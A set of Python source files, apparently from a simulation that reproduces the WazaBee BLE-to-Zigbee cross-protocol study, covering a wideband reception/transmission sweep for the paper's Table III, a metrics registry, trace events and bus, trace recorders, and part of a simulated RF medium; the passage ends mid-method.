    (:data:`repro.chips.wideband.SWEEP_GRID`); pass ``grid`` / ``dtype``
    to run the 16 Msps double-precision configuration the differential
    tests use.  Seeding is per (chip, primitive): ``seed ^
    crc32(chip/primitive/wideband)`` with one spawned stream per
    channel.  ``chunk_slots`` shapes the per-channel draw order and is
    therefore part of the reproducibility contract; ``workers``
    (default: up to 2 processes) distributes whole (chip, primitive)
    pairs and never changes results — each pair is seeded and decoded
    independently, exactly as in the ``workers=1`` loop.
    """
    from repro.chips.wideband import SWEEP_GRID

    if frames < 1:
        raise ValueError("frames must be >= 1")
    if chunk_slots < 1:
        raise ValueError("chunk_slots must be >= 1")
    grid = grid if grid is not None else SWEEP_GRID
    dtype = np.dtype(dtype if dtype is not None else np.complex64)
    result = Table3Result(frames_per_cell=frames)
    profile = profile or TestbedProfile()
    tasks = []
    for chip_name in chips:
        if chip_name not in CHIP_FACTORIES:
            raise ValueError(f"unknown chip {chip_name!r}")
        for primitive in primitives:
            if primitive not in ("rx", "tx"):
                raise ValueError("primitive must be 'rx' or 'tx'")
            tasks.append(
                (
                    chip_name,
                    primitive,
                    tuple(channels),
                    frames,
                    profile,
                    seed,
                    chunk_slots,
                    mode,
                    grid,
                    dtype,
                )
            )
    if workers is None:
        workers = max(1, min(2, os.cpu_count() or 1, len(tasks)))
    if workers == 1:
        outcomes = [_wideband_pair_task(task) for task in tasks]
    else:
        with ProcessPoolExecutor(max_workers=workers) as pool:
            outcomes = list(pool.map(_wideband_pair_task, tasks))
    for chip_name, primitive, cells, metrics in outcomes:
        for cell in cells.values():
            cell.metrics = metrics
        result.cells[(chip_name, primitive)] = cells
    return result


def _wideband_pair_task(args: Tuple) -> Tuple[str, str, Dict, Dict]:
    """One pooled (chip, primitive) wideband pair with a scoped registry."""
    from repro.chips.wideband import WidebandFrontEnd
    from repro.phy.batch import decode_chip_frames

    (
        chip_name,
        primitive,
        channels,
        frames,
        profile,
        seed,
        chunk_slots,
        mode,
        grid,
        dtype,
    ) = args
    with scoped() as (_bus, registry):
        cells = _run_wideband_pair(
            chip_name,
            primitive,
            channels,
            frames,
            profile,
            seed,
            chunk_slots,
            mode,
            grid,
            dtype,
            WidebandFrontEnd,
            decode_chip_frames,
        )
        metrics = registry.counter_values()
    return chip_name, primitive, cells, metrics


def _run_wideband_pair(
    chip_name: str,
    primitive: str,
    channels: Tuple[int, ...],
    frames: int,
    profile: TestbedProfile,
    seed: int,
    chunk_slots: int,
    mode: str,
    grid,
    dtype,
    front_end_cls,
    decode,
) -> Dict[int, ChannelResult]:
    """All channels of one (chip, primitive) pair, decoded in slot chunks."""
    base_seed = (
        seed ^ crc32(f"{chip_name}/{primitive}/wideband".encode()) & 0x7FFFFFFF
    )
    cfo_std = (
        REFERENCE_TX_CFO_STD_HZ
        if primitive == "rx"
        else CHIP_TX_CFO_STD_HZ[chip_name]
    )
    front = front_end_cls(
        profile=profile,
        grid=grid,
        channels=channels,
        seed=base_seed,
        tx_cfo_std_hz=cfo_std,
        dtype=dtype,
    )
    spc = front.samples_per_chip
    cells = {c: ChannelResult(channel=c) for c in channels}
    for lo in range(0, frames, chunk_slots):
        slots = list(range(lo, min(lo + chunk_slots, frames)))
        signals = [
            _wideband_slot_waveform(primitive, i, spc) for i in slots
        ]
        expected = [_counter_frame(i).to_bytes() for i in slots]
        captures = front.capture_slots(signals, mode=mode)
        num_slots, num_channels, n_out = captures.shape
        decoded = decode(
            captures.reshape(num_slots * num_channels, n_out),
            samples_per_chip=spc,
        )
        for s in range(num_slots):
            for j, channel in enumerate(channels):
                frame = decoded.frames[s * num_channels + j]
                outcomes = (
                    [(frame.psdu, frame.fcs_ok)] if frame is not None else []
                )
                valid, corrupted = _classify(outcomes, expected[s])
                _tally(cells[channel], valid, corrupted)
    return cells


def format_table3(result: Table3Result) -> str:
    """Render the result in the layout of the paper's Table III."""
    keys = [
        ("rx", "nRF52832"),
        ("rx", "CC1352-R1"),
        ("tx", "nRF52832"),
        ("tx", "CC1352-R1"),
    ]
    present = [(p, c) for (p, c) in keys if (c, p) in result.cells]
    header1 = f"{'':>8} | {'Reception primitive':^25} | {'Transmission primitive':^25}"
    header2 = (
        f"{'Channel':>8} | "
        + " | ".join(f"{c:^11}" for p, c in present[:2])
        + " | "
        + " | ".join(f"{c:^11}" for p, c in present[2:])
    )
    header3 = (
        f"{'':>8} | " + " | ".join(f"{'val':>5} {'cor':>5}" for _ in present)
    )
    lines = [header1, header2, header3, "-" * len(header2)]
    channels = sorted(
        next(iter(result.cells.values())).keys()
    )
    for channel in channels:
        cols = []
        for primitive, chip in present:
            cell = result.cells[(chip, primitive)][channel]
            cols.append(f"{cell.valid:>5} {cell.corrupted:>5}")
        lines.append(f"{channel:>8} | " + " | ".join(cols))
    summary = []
    for primitive, chip in present:
        rate = result.average_valid_rate(chip, primitive) * 100.0
        summary.append(f"{primitive}/{chip}: {rate:.3f}% valid")
    lines.append("-" * len(header2))
    lines.append("averages: " + ", ".join(summary))
    return "\n".join(lines)
