"""Metrics registry: counters, gauges and histogram stage timers.

Counters and gauges are deterministic under a fixed seed (they count
simulation events); timers measure **wall-clock** stage spans on the
monotonic clock (``time.perf_counter``) and are therefore excluded from
the deterministic snapshot that experiment cells embed in their results —
:meth:`MetricsRegistry.snapshot` separates the two so callers can pick.

Everything is create-on-first-use::

    registry.counter("rx.decode.ok").inc()
    registry.gauge("scheduler.pending").set(12)
    with registry.timer("decode").time():
        ...hot stage...
"""

from __future__ import annotations

import time as _time
from typing import Dict, Iterator, List, Optional
from contextlib import contextmanager

__all__ = ["Counter", "Gauge", "Timer", "MetricsRegistry"]


class Counter:
    """A monotonically increasing event count."""

    __slots__ = ("name", "value")

    def __init__(self, name: str):
        self.name = name
        self.value = 0

    def inc(self, amount: int = 1) -> None:
        self.value += amount


class Gauge:
    """A point-in-time level (queue depth, buffer fill, channel number)."""

    __slots__ = ("name", "value")

    def __init__(self, name: str):
        self.name = name
        self.value = 0.0

    def set(self, value: float) -> None:
        self.value = float(value)


#: Histogram bucket upper bounds for stage timers, in seconds
#: (1 µs … 10 s, one bucket per decade, plus an overflow bucket).
TIMER_BUCKET_BOUNDS = (1e-6, 1e-5, 1e-4, 1e-3, 1e-2, 1e-1, 1.0, 10.0)


class Timer:
    """Wall-clock histogram of stage durations.

    Tracks count / total / min / max plus a fixed log-scale bucket
    histogram — enough to tell "decode got slower" from "one outlier",
    without unbounded per-sample storage.
    """

    __slots__ = ("name", "count", "total_s", "min_s", "max_s", "buckets")

    def __init__(self, name: str):
        self.name = name
        self.count = 0
        self.total_s = 0.0
        self.min_s = float("inf")
        self.max_s = 0.0
        self.buckets: List[int] = [0] * (len(TIMER_BUCKET_BOUNDS) + 1)

    def observe(self, duration_s: float) -> None:
        """Record one span (seconds on the monotonic clock)."""
        self.count += 1
        self.total_s += duration_s
        if duration_s < self.min_s:
            self.min_s = duration_s
        if duration_s > self.max_s:
            self.max_s = duration_s
        for index, bound in enumerate(TIMER_BUCKET_BOUNDS):
            if duration_s <= bound:
                self.buckets[index] += 1
                return
        self.buckets[-1] += 1

    @contextmanager
    def time(self) -> Iterator[None]:
        """Context manager timing one stage span."""
        start = _time.perf_counter()
        try:
            yield
        finally:
            self.observe(_time.perf_counter() - start)

    @property
    def mean_s(self) -> float:
        return self.total_s / self.count if self.count else 0.0

    def as_dict(self) -> Dict[str, object]:
        return {
            "count": self.count,
            "total_s": self.total_s,
            "mean_s": self.mean_s,
            "min_s": self.min_s if self.count else 0.0,
            "max_s": self.max_s,
            "buckets": list(self.buckets),
        }


class MetricsRegistry:
    """Create-on-first-use registry of counters, gauges and timers."""

    def __init__(self) -> None:
        self._counters: Dict[str, Counter] = {}
        self._gauges: Dict[str, Gauge] = {}
        self._timers: Dict[str, Timer] = {}

    def counter(self, name: str) -> Counter:
        counter = self._counters.get(name)
        if counter is None:
            counter = self._counters[name] = Counter(name)
        return counter

    def gauge(self, name: str) -> Gauge:
        gauge = self._gauges.get(name)
        if gauge is None:
            gauge = self._gauges[name] = Gauge(name)
        return gauge

    def timer(self, name: str) -> Timer:
        timer = self._timers.get(name)
        if timer is None:
            timer = self._timers[name] = Timer(name)
        return timer

    def counter_values(self) -> Dict[str, int]:
        """Deterministic counter snapshot (sorted by name), zeros included."""
        return {
            name: self._counters[name].value
            for name in sorted(self._counters)
        }

    def snapshot(self, include_timers: bool = True) -> Dict[str, object]:
        """Full registry dump.

        ``counters`` and ``gauges`` are deterministic under a fixed seed;
        ``timers`` carry wall-clock spans and vary run to run — callers
        embedding metrics in reproducible artefacts (Table III cells)
        pass ``include_timers=False``.
        """
        snap: Dict[str, object] = {
            "counters": self.counter_values(),
            "gauges": {
                name: self._gauges[name].value for name in sorted(self._gauges)
            },
        }
        if include_timers:
            snap["timers"] = {
                name: self._timers[name].as_dict()
                for name in sorted(self._timers)
            }
        return snap

    def format(self, include_timers: bool = True) -> str:
        """Human-readable one-metric-per-line rendering (CLI ``--metrics``)."""
        lines: List[str] = []
        for name in sorted(self._counters):
            lines.append(f"{name:48s} {self._counters[name].value}")
        for name in sorted(self._gauges):
            lines.append(f"{name:48s} {self._gauges[name].value:g}")
        if include_timers:
            for name in sorted(self._timers):
                timer = self._timers[name]
                lines.append(
                    f"{name:48s} n={timer.count} total={timer.total_s:.6f}s "
                    f"mean={timer.mean_s * 1e3:.3f}ms max={timer.max_s * 1e3:.3f}ms"
                )
        return "\n".join(lines)
