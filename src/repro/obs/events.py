"""Typed trace events.

One :class:`TraceEvent` is one thing that happened somewhere in the stack,
stamped with *simulated* time (the scheduler clock) so a trace is fully
deterministic under a fixed seed — wall-clock never enters an event.  The
event vocabulary is deliberately small and layer-shaped: a frame's life is
``tx.frame → medium.delivery → rx.capture → rx.decode → rx.fcs``, with
``mac.retry``, ``fault.injected`` and ``attack.stage`` annotating the
link-layer, chaos and workflow dimensions.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any, Dict

__all__ = [
    "TraceEvent",
    "TX_FRAME",
    "MEDIUM_DELIVERY",
    "RX_CAPTURE",
    "RX_DECODE",
    "RX_FCS",
    "MAC_RETRY",
    "FAULT_INJECTED",
    "ATTACK_STAGE",
    "FIRMWARE_DROP",
    "SERVE_SESSION",
    "SERVE_SHED",
    "SERVE_STAGE",
    "CHANNELIZER_COMPOSE",
    "CHANNELIZER_SPLIT",
    "FLEET_SAMPLE",
    "EVENT_NAMES",
]

#: A WazaBee/802.15.4 frame handed to a diverted radio for transmission.
TX_FRAME = "tx.frame"
#: The medium decided the fate of one scheduled delivery (scheduled,
#: delivered, suppressed by a fault, duplicated, or skipped at delivery
#: time because the receiver re-tuned / stopped listening).
MEDIUM_DELIVERY = "medium.delivery"
#: A receiver's sync correlator fired and produced a raw bit capture.
RX_CAPTURE = "rx.capture"
#: One capture's decode outcome (ok / no-sfd / truncated / low-confidence).
RX_DECODE = "rx.decode"
#: FCS verdict for a successfully decoded frame.
RX_FCS = "rx.fcs"
#: A link-layer retransmission (MAC ACK-timeout retry or firmware
#: reliable-send re-attempt).
MAC_RETRY = "mac.retry"
#: The fault injector applied one impairment.
FAULT_INJECTED = "fault.injected"
#: An attack workflow changed stage.
ATTACK_STAGE = "attack.stage"
#: The firmware's bounded raw-frame ring evicted its oldest entry to make
#: room for a new decode (the ``raw_frames_dropped`` ledger's trace twin).
FIRMWARE_DROP = "firmware.drop"
#: A sniffer-service subscriber session changed state (connected,
#: disconnected, stalled, drained).
SERVE_SESSION = "serve.session"
#: The sniffer service moved between overload-degradation levels (sheds
#: trace records first, then corrupt frames, then downsamples).
SERVE_SHED = "serve.shed"
#: A supervised service pipeline stage crashed, restarted, or gave up.
SERVE_STAGE = "serve.stage"
#: Per-channel TX basebands were superposed into one wideband band capture
#: (the wideband front end's compose step).
CHANNELIZER_COMPOSE = "channelizer.compose"
#: A wideband capture was split into per-channel basebands by the
#: polyphase filterbank (single-block or overlap-save mode).
CHANNELIZER_SPLIT = "channelizer.split"
#: One periodic fleet-campaign sample: alive-node count and aggregate
#: battery fraction at a point in simulated time.
FLEET_SAMPLE = "fleet.sample"

#: The closed vocabulary — JSONL consumers and the ledger tests key on it.
EVENT_NAMES = frozenset(
    {
        TX_FRAME,
        MEDIUM_DELIVERY,
        RX_CAPTURE,
        RX_DECODE,
        RX_FCS,
        MAC_RETRY,
        FAULT_INJECTED,
        ATTACK_STAGE,
        FIRMWARE_DROP,
        SERVE_SESSION,
        SERVE_SHED,
        SERVE_STAGE,
        CHANNELIZER_COMPOSE,
        CHANNELIZER_SPLIT,
        FLEET_SAMPLE,
    }
)


@dataclass(frozen=True)
class TraceEvent:
    """One structured trace record.

    ``seq`` is the bus's emission counter — a total order over the trace
    that is deterministic under a fixed seed (the discrete-event scheduler
    fires callbacks in a reproducible order).  ``time`` is simulated
    seconds, 0.0 where a component has no scheduler in reach.
    """

    seq: int
    time: float
    name: str
    fields: Dict[str, Any] = field(default_factory=dict)

    def as_dict(self) -> Dict[str, Any]:
        """Flat JSON-serialisable form (the JSONL line layout)."""
        record: Dict[str, Any] = {
            "seq": self.seq,
            "time": self.time,
            "event": self.name,
        }
        record.update(self.fields)
        return record
