"""The trace-event bus.

A :class:`TraceBus` fans structured events out to zero or more subscribers.
The design constraint is the acceptance criterion of the observability
layer: with **no subscriber attached the stack must run at full speed** —
so ``emit`` returns before touching its keyword arguments, and hot call
sites can additionally guard with :attr:`TraceBus.active` to skip even the
argument construction::

    if bus.active:
        bus.emit(RX_DECODE, time=now, outcome="ok", channel=14)

A process-global default bus is what instrumented components bind to when
no explicit bus is passed; :func:`scoped` swaps in a fresh bus (and metrics
registry) for the duration of one experiment cell or test, so concurrent
sequential runs never bleed events into each other.
"""

from __future__ import annotations

from contextlib import contextmanager
from typing import Callable, Iterator, List, Optional, Tuple

from repro.obs.events import TraceEvent
from repro.obs.metrics import MetricsRegistry

__all__ = ["TraceBus", "trace_bus", "metrics", "scoped"]

Subscriber = Callable[[TraceEvent], None]


class TraceBus:
    """Synchronous fan-out of :class:`TraceEvent` records."""

    __slots__ = ("_subscribers", "_seq")

    def __init__(self) -> None:
        self._subscribers: List[Subscriber] = []
        self._seq = 0

    @property
    def active(self) -> bool:
        """True when at least one subscriber is attached (emit will work)."""
        return bool(self._subscribers)

    @property
    def events_emitted(self) -> int:
        """Total events emitted since construction (diagnostics)."""
        return self._seq

    def subscribe(self, subscriber: Subscriber) -> Subscriber:
        """Attach *subscriber*; returns it (the unsubscribe token)."""
        self._subscribers.append(subscriber)
        return subscriber

    def unsubscribe(self, subscriber: Subscriber) -> None:
        """Detach a subscriber; missing subscribers are ignored."""
        try:
            self._subscribers.remove(subscriber)
        except ValueError:
            pass

    def emit(self, name: str, time: float = 0.0, **fields) -> None:
        """Publish one event to every subscriber.

        No-op (beyond the truthiness check) when nobody is listening.
        Events are sequence-numbered in emission order, which under the
        discrete-event scheduler is deterministic for a fixed seed.
        """
        if not self._subscribers:
            return
        self._seq += 1
        event = TraceEvent(seq=self._seq, time=time, name=name, fields=fields)
        for subscriber in self._subscribers:
            subscriber(event)


_GLOBAL_BUS = TraceBus()
_GLOBAL_METRICS = MetricsRegistry()
_current_bus = _GLOBAL_BUS
_current_metrics = _GLOBAL_METRICS


def trace_bus() -> TraceBus:
    """The currently scoped trace bus (process-global by default)."""
    return _current_bus


def metrics() -> MetricsRegistry:
    """The currently scoped metrics registry (process-global by default)."""
    return _current_metrics


@contextmanager
def scoped(
    bus: Optional[TraceBus] = None,
    registry: Optional[MetricsRegistry] = None,
) -> Iterator[Tuple[TraceBus, MetricsRegistry]]:
    """Swap in a fresh (bus, registry) pair for the duration of the block.

    Components constructed inside the block bind to the scoped instances,
    so one Table III cell (or one test) observes only its own events and
    counters.  Nesting restores outer scopes correctly.
    """
    global _current_bus, _current_metrics
    new_bus = bus if bus is not None else TraceBus()
    new_metrics = registry if registry is not None else MetricsRegistry()
    previous = (_current_bus, _current_metrics)
    _current_bus = new_bus
    _current_metrics = new_metrics
    try:
        yield new_bus, new_metrics
    finally:
        _current_bus, _current_metrics = previous
