"""Observability layer: trace events, metrics registry, stage timers.

The WazaBee stack reports *what happened to every frame* through two
complementary channels:

* a **trace-event bus** (:class:`TraceBus`) carrying typed, structured
  events — ``tx.frame``, ``medium.delivery``, ``rx.capture``,
  ``rx.decode``, ``rx.fcs``, ``mac.retry``, ``fault.injected``,
  ``attack.stage`` — stamped with simulated time, so a run's trace is
  deterministic under a fixed seed and zero-overhead when nobody listens;
* a **metrics registry** (:class:`MetricsRegistry`) of counters, gauges
  and wall-clock histogram timers, the aggregate view that Table III
  cells, the CLI (``--metrics``) and the perf reports embed.

Instrumented components resolve the *current* bus/registry at
construction; :func:`scoped` isolates one experiment cell or test.
``sim_now`` is the shared best-effort simulated-clock lookup used by
components whose API contract does not guarantee scheduler access.
"""

from __future__ import annotations

from repro.obs.bus import TraceBus, metrics, scoped, trace_bus
from repro.obs.events import (
    ATTACK_STAGE,
    CHANNELIZER_COMPOSE,
    CHANNELIZER_SPLIT,
    EVENT_NAMES,
    FLEET_SAMPLE,
    FAULT_INJECTED,
    FIRMWARE_DROP,
    MAC_RETRY,
    MEDIUM_DELIVERY,
    RX_CAPTURE,
    RX_DECODE,
    RX_FCS,
    SERVE_SESSION,
    SERVE_SHED,
    SERVE_STAGE,
    TX_FRAME,
    TraceEvent,
)
from repro.obs.metrics import Counter, Gauge, MetricsRegistry, Timer
from repro.obs.recorder import JsonlTraceWriter, TraceRecorder, write_events_jsonl

__all__ = [
    "TraceBus",
    "TraceEvent",
    "TraceRecorder",
    "JsonlTraceWriter",
    "write_events_jsonl",
    "MetricsRegistry",
    "Counter",
    "Gauge",
    "Timer",
    "trace_bus",
    "metrics",
    "scoped",
    "sim_now",
    "EVENT_NAMES",
    "TX_FRAME",
    "MEDIUM_DELIVERY",
    "RX_CAPTURE",
    "RX_DECODE",
    "RX_FCS",
    "MAC_RETRY",
    "FAULT_INJECTED",
    "ATTACK_STAGE",
    "FIRMWARE_DROP",
    "SERVE_SESSION",
    "SERVE_SHED",
    "SERVE_STAGE",
    "CHANNELIZER_COMPOSE",
    "CHANNELIZER_SPLIT",
    "FLEET_SAMPLE",
]


def sim_now(radio) -> float:
    """Best-effort simulated time for a low-level radio.

    The :class:`~repro.core.radio_api.LowLevelRadio` protocol does not
    promise a clock, but every simulated chip carries a transceiver bound
    to the medium's scheduler.  Components instrumenting the protocol edge
    use this lookup; hardware-backed radios without one stamp 0.0.
    """
    transceiver = getattr(radio, "transceiver", None)
    if transceiver is None:
        return 0.0
    try:
        return transceiver.medium.scheduler.now
    except AttributeError:
        return 0.0
