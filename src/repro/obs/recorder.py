"""Trace consumers: in-memory recorder and JSONL writer.

``TraceRecorder`` is the test-facing surface — it accumulates every event
in emission order and offers count/filter helpers for ledger assertions.
``JsonlTraceWriter`` is the export surface behind the CLI's ``--trace
FILE`` flag: one JSON object per line, flat schema (``seq``, ``time``,
``event``, then the event's own fields).
"""

from __future__ import annotations

import json
from typing import IO, Dict, List, Optional, Union

from repro.obs.bus import TraceBus, trace_bus
from repro.obs.events import TraceEvent

__all__ = ["TraceRecorder", "JsonlTraceWriter", "write_events_jsonl"]


class TraceRecorder:
    """Subscribe to a bus and keep every event in memory.

    Usable as a context manager; on exit the recorder unsubscribes but
    keeps its events for inspection.
    """

    def __init__(self, bus: Optional[TraceBus] = None):
        self.bus = bus if bus is not None else trace_bus()
        self.events: List[TraceEvent] = []
        self._attached = False
        self.bus.subscribe(self._on_event)
        self._attached = True

    def _on_event(self, event: TraceEvent) -> None:
        self.events.append(event)

    def close(self) -> None:
        if self._attached:
            self.bus.unsubscribe(self._on_event)
            self._attached = False

    def __enter__(self) -> "TraceRecorder":
        return self

    def __exit__(self, *_exc) -> None:
        self.close()

    # -- inspection ---------------------------------------------------------
    def __len__(self) -> int:
        return len(self.events)

    def named(self, name: str) -> List[TraceEvent]:
        """Events of one type, in emission order."""
        return [event for event in self.events if event.name == name]

    def count(self, name: str, **field_filters) -> int:
        """How many events of *name* match every given field value."""
        total = 0
        for event in self.events:
            if event.name != name:
                continue
            if all(
                event.fields.get(key) == value
                for key, value in field_filters.items()
            ):
                total += 1
        return total

    def counts_by_name(self) -> Dict[str, int]:
        """Event tally keyed by event name (the ledger's outer shape)."""
        tally: Dict[str, int] = {}
        for event in self.events:
            tally[event.name] = tally.get(event.name, 0) + 1
        return tally

    def as_dicts(self) -> List[Dict[str, object]]:
        """Flat JSON-serialisable event list (pickles across processes)."""
        return [event.as_dict() for event in self.events]


class JsonlTraceWriter:
    """Stream events to a JSONL file as they are emitted."""

    def __init__(self, target: Union[str, IO[str]], bus: Optional[TraceBus] = None):
        self.bus = bus if bus is not None else trace_bus()
        if isinstance(target, str):
            self._handle: IO[str] = open(target, "w", encoding="utf-8")
            self._owns_handle = True
        else:
            self._handle = target
            self._owns_handle = False
        self._attached = False
        self.bus.subscribe(self._on_event)
        self._attached = True
        self.events_written = 0

    def _on_event(self, event: TraceEvent) -> None:
        json.dump(event.as_dict(), self._handle, sort_keys=True)
        self._handle.write("\n")
        self.events_written += 1

    def close(self) -> None:
        if self._attached:
            self.bus.unsubscribe(self._on_event)
            self._attached = False
        self._handle.flush()
        if self._owns_handle:
            self._handle.close()

    def __enter__(self) -> "JsonlTraceWriter":
        return self

    def __exit__(self, *_exc) -> None:
        self.close()


def write_events_jsonl(events: List[Dict[str, object]], path: str) -> int:
    """Write pre-collected event dicts (e.g. from worker processes) to JSONL.

    Returns the number of lines written.
    """
    with open(path, "w", encoding="utf-8") as handle:
        for event in events:
            json.dump(event, handle, sort_keys=True)
            handle.write("\n")
    return len(events)
