"""Shared RF medium with path loss, noise and interference.

The medium is where a BLE emission and a Zigbee receiver actually meet: a
transmission is recorded with its RF centre frequency and start time; every
attached, listening transceiver whose tuning overlaps gets a *capture* — the
superposition of all transmissions overlapping its window, mixed to the
receiver's centre frequency, scaled by log-distance path loss and log-normal
shadowing, plus interferer bursts and the thermal noise floor.

Power convention: a linear sample power of 1.0 corresponds to 0 dBm, so
``amplitude = 10^(dBm/20)``.

Determinism contract: every per-capture random draw (thermal noise,
shadowing, interferer bursts) comes from a *per-receiver* stream derived
from the medium seed and keyed by the receiver's name — never from the
order radios were attached or the order deliveries interleave across
receivers.  Two simulations that agree on (seed, per-receiver delivery
sequence) therefore produce byte-identical captures, which is what lets
the sharded medium (:mod:`repro.radio.shard`) prove decision-identity
against this dense reference implementation.
"""

from __future__ import annotations

import math
import zlib
from dataclasses import dataclass, field
from typing import TYPE_CHECKING, Callable, Iterable, List, Optional, Sequence, Tuple

import numpy as np

from repro.dsp.signal import IQSignal
from repro.obs import MEDIUM_DELIVERY
from repro.obs import metrics as _current_metrics
from repro.obs import trace_bus as _current_bus
from repro.radio.interference import WifiInterferer
from repro.radio.scheduler import Scheduler

if TYPE_CHECKING:  # pragma: no cover - import cycle guard
    from repro.faults.injector import FaultInjector
    from repro.radio.transceiver import Transceiver

__all__ = ["PropagationModel", "Transmission", "RfMedium"]

Position = Tuple[float, float]


@dataclass
class PropagationModel:
    """Log-distance path loss with optional log-normal shadowing.

    ``reference_loss_db`` is the loss at ``reference_distance_m``;
    ``exponent`` is the decay exponent (2 free space, 2.5–3 indoors);
    ``shadowing_sigma_db`` adds a per-capture Gaussian term, the simulator's
    stand-in for multipath fading and people walking through the lab.
    """

    reference_loss_db: float = 40.0
    reference_distance_m: float = 1.0
    exponent: float = 2.5
    shadowing_sigma_db: float = 0.0

    def path_gain_db(
        self, a: Position, b: Position, rng: Optional[np.random.Generator] = None
    ) -> float:
        distance = math.dist(a, b)
        distance = max(distance, self.reference_distance_m / 10.0)
        loss = self.reference_loss_db + 10.0 * self.exponent * math.log10(
            distance / self.reference_distance_m
        )
        if self.shadowing_sigma_db > 0.0 and rng is not None:
            loss += float(rng.normal(0.0, self.shadowing_sigma_db))
        return -loss


@dataclass
class Transmission:
    """A signal on the air.

    ``origin`` is the emitter's position *at transmit time*: path loss and
    range gating are evaluated against where the energy actually left the
    antenna, so a source that moves while its frame is still in flight
    cannot retroactively change the physics of an emission already made.
    """

    source: "Transceiver"
    signal: IQSignal
    start_time: float
    power_dbm: float
    identifier: int
    origin: Position = (0.0, 0.0)

    @property
    def end_time(self) -> float:
        return self.start_time + self.signal.duration


class RfMedium:
    """The shared channel connecting every simulated radio.

    ``range_cutoff_m`` (optional) bounds the interaction radius: a
    transmission is neither delivered to, nor mixed into the capture of, a
    receiver farther than the cutoff from its origin, and CSMA-CA CCA does
    not see it.  ``None`` (the default) keeps the historical unbounded
    behaviour.  The cutoff is the *semantic contract* the spatially
    partitioned :class:`~repro.radio.shard.ShardedRfMedium` implements with
    an interest-managed index — dense-with-cutoff is its O(N·M) reference.
    """

    #: Margin added to half the receiver bandwidth when deciding whether a
    #: transmission is deliverable (beyond it, the channel filter would bury
    #: the signal anyway).  Roughly the occupied bandwidth of the signals
    #: simulated here.
    DELIVERY_MARGIN_HZ = 3e6

    #: How far behind the current time a finished transmission is kept
    #: before being pruned from the superposition list.  It must exceed the
    #: longest capture window (frame airtime + capture margins) or a late
    #: delivery would compose against a half-forgotten past; anything much
    #: larger only wastes memory on a busy medium.
    DEFAULT_PRUNE_HORIZON_S = 0.01

    def __init__(
        self,
        scheduler: Scheduler,
        sample_rate: float = 16e6,
        noise_floor_dbm: float = -100.0,
        propagation: Optional[PropagationModel] = None,
        interferers: Sequence[WifiInterferer] = (),
        rng: Optional[np.random.Generator] = None,
        capture_margin_s: float = 16e-6,
        seed: int = 0,
        prune_horizon_s: float = DEFAULT_PRUNE_HORIZON_S,
        fault_injector: Optional["FaultInjector"] = None,
        range_cutoff_m: Optional[float] = None,
    ):
        self.scheduler = scheduler
        self.sample_rate = sample_rate
        self.noise_floor_dbm = noise_floor_dbm
        # Observability: bind to the bus/registry scoped at construction
        # time, so one experiment cell traces only its own medium.
        self.trace = _current_bus()
        self.metrics = _current_metrics()
        self.propagation = propagation or PropagationModel()
        self.interferers = list(interferers)
        self.seed = seed
        self.rng = rng if rng is not None else np.random.default_rng(seed)
        self.capture_margin_s = capture_margin_s
        if prune_horizon_s <= 0.0:
            raise ValueError("prune_horizon_s must be positive")
        self.prune_horizon_s = prune_horizon_s
        if range_cutoff_m is not None and range_cutoff_m <= 0.0:
            raise ValueError("range_cutoff_m must be positive")
        self.range_cutoff_m = range_cutoff_m
        self._radios: List["Transceiver"] = []
        self._transmissions: List[Transmission] = []
        self._next_id = 0
        # Per-receiver random streams, keyed by radio *name* (not insertion
        # order): each receiver's noise/shadowing/interference draws advance
        # only with its own captures.
        self._rx_streams: dict = {}
        # Capture-composition scratch: mixed-signal memo (a transmission is
        # mixed to a given receiver tuning once, not once per delivery) and
        # reusable noise buffers (grow-only, so steady-state captures do no
        # float allocation for the thermal floor).
        self._mixed_cache: dict = {}
        self._noise_re = np.empty(0)
        self._noise_im = np.empty(0)
        self.fault_injector: Optional["FaultInjector"] = None
        if fault_injector is not None:
            self.install_fault_injector(fault_injector)

    def derive_rng(self, label: str) -> np.random.Generator:
        """A deterministic per-device generator tied to the medium's seed.

        Devices that are not handed an explicit ``rng`` draw theirs from
        here, keyed by name, so a whole experiment is reproducible from the
        single medium seed.
        """
        key = zlib.crc32(label.encode("utf-8"))
        return np.random.default_rng(
            np.random.SeedSequence(entropy=self.seed, spawn_key=(key,))
        )

    def install_fault_injector(self, injector: "FaultInjector") -> None:
        """Attach a fault injector; scripted bursts are scheduled now."""
        injector.install(self)
        self.fault_injector = injector

    # -- attachment ---------------------------------------------------------
    def attach(self, radio: "Transceiver") -> None:
        if radio not in self._radios:
            self._radios.append(radio)
            # Stream creation is idempotent per name: detach + re-attach
            # continues the same stream rather than rewinding it.
            self._rx_streams.setdefault(
                radio.name, self.derive_rng(f"medium.rx:{radio.name}")
            )

    def detach(self, radio: "Transceiver") -> None:
        if radio in self._radios:
            self._radios.remove(radio)

    def radio_moved(self, radio: "Transceiver") -> None:
        """Notification hook: *radio*'s position changed.

        The dense medium scans every radio on each transmit, so position is
        always read fresh — nothing to update.  The sharded medium overrides
        this to migrate the radio between grid cells.
        """

    def radio_retuned(self, radio: "Transceiver") -> None:
        """Notification hook: *radio*'s tuning changed (see radio_moved)."""

    def _rx_stream(self, radio: "Transceiver") -> np.random.Generator:
        stream = self._rx_streams.get(radio.name)
        if stream is None:
            stream = self.derive_rng(f"medium.rx:{radio.name}")
            self._rx_streams[radio.name] = stream
        return stream

    # -- transmission ---------------------------------------------------------
    def transmit(
        self, source: "Transceiver", signal: IQSignal, power_dbm: float
    ) -> Transmission:
        """Put *signal* on the air now; schedule deliveries at its end."""
        if signal.sample_rate != self.sample_rate:
            raise ValueError(
                f"signal sample rate {signal.sample_rate} differs from medium "
                f"rate {self.sample_rate}"
            )
        self._prune(self.scheduler.now - self.prune_horizon_s)
        tx = Transmission(
            source=source,
            signal=signal,
            start_time=self.scheduler.now,
            power_dbm=power_dbm,
            identifier=self._next_id,
            origin=tuple(source.position),
        )
        self._next_id += 1
        self._transmissions.append(tx)
        self._index_transmission(tx)
        self.metrics.counter("medium.transmissions").inc()
        for radio in self._delivery_candidates(tx):
            if radio is source:
                continue
            if not radio.is_listening:
                continue
            if not self._in_band(radio, signal.center_frequency):
                continue
            if not self._within_range(tx, radio):
                continue
            deliveries = 1
            if self.fault_injector is not None:
                deliveries = self.fault_injector.delivery_count(radio, tx)
            if deliveries == 0:
                self.metrics.counter("medium.deliveries.suppressed").inc()
                self._trace_delivery(radio, tx, "suppressed")
                continue
            if deliveries > 1:
                self.metrics.counter("medium.deliveries.duplicated").inc()
            for _ in range(deliveries):
                self.metrics.counter("medium.deliveries.scheduled").inc()
                self._trace_delivery(radio, tx, "scheduled")
